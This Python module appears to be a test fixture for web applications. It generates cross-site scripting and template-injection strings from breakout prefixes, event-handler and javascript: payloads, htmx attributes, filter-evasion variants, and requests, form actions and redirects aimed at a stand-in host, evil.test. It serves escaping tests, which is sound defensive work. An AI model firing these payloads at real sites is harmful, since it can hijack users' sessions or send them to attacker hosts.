"""Texts that would run a script, or become markup, on a page that forgets to escape them.

Each begins with a way out of where it may stand and goes on with something that shows itself: an
element of the class `planted`, a dialog, or a call to another host.
"""

from collections.abc import Iterator
from itertools import product

MARK = "pl4nt3d"
_WAYS_OUT = (
    *("", '">', "'>", "`>", "-->", "]]>", "%>", "}}"),
    *("</script>", "</textarea>", "</title>", "</style>", "</svg>", "</option></select>"),
)
_BLOWS = (
    "<script class=planted>alert(1)</script>",
    "<img class=planted src=//evil.test/x onerror=alert(1)>",
    "<svg class=planted onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<a class=planted href=javascript:alert(1)>x</a>",
    "<iframe class=planted srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<div class=planted hx-get=//evil.test hx-trigger=load hx-on::load=alert(1)></div>",
    "<div class=planted data-hx-get=/account data-hx-trigger='load[alert(1)]'></div>",
    "<div class=planted id=main hx-swap-oob=true hx-vals='js:{x:alert(1)}'></div>",
    "<form class=planted action=//evil.test><button formaction=javascript:alert(1)></form>",
    "<meta class=planted http-equiv=refresh content='0;url=//evil.test'>",
    "<style class=planted>@import '//evil.test/x';</style>",
    "<details class=planted open ontoggle=alert(1)>",
)
_IN_PLACE = (
    '" autofocus onfocus=alert(1) class="planted',
    "' onmouseover='alert(1)' class='planted",
    "javascript:alert(1)//",
    "{{7*7}}${7*7}#{7*7}{% raw %}",
    "\u2028alert(1)\u2029</script\u00a0>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img&#62;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\ufeff\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)
PAYLOADS = (*(out + blow for out, blow in product(_WAYS_OUT, _BLOWS)), *_IN_PLACE)


def bundles(size: int) -> Iterator[str]:
    """Give all of them, `size` in one text; none hides the one after it."""
    for start in range(0, len(PAYLOADS), size):
        yield MARK + " ".join(PAYLOADS[start : start + size])
